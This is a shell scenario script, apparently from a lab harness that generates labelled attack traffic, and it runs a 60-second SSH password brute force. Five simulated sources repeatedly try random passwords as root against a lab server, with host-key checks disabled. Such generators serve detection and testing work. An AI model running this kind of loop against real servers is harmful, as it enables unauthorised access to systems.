# SPDX-License-Identifier: MIT
# label: bruteforce-ssh
# source: lab-ssh
# needs: sshpass ssh sshd
# seconds: 90
# Passwords for one server from several addresses in turn.
. $lab/victims.sh

servers() {
	victim_ssh a 22
}

scenario() {
	_gap=$(choose 0.3 1 2)
	setting options "5 sources, one try every $_gap s"
	intent_begin 203.0.113.0/24 a tcp 22
	_end=$(($(date +%s) + 60))
	while [ "$(date +%s)" -lt "$_end" ]; do
		for _h in s t u v w; do
			bg "$_h" timeout 8 sshpass -p "guess$(pick 1 9999)" ssh \
				-o StrictHostKeyChecking=no \
				-o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 \
				"root@$(addr a)" true
			sleep "$_gap"
		done
	done
	sleep 3
	intent_end
}
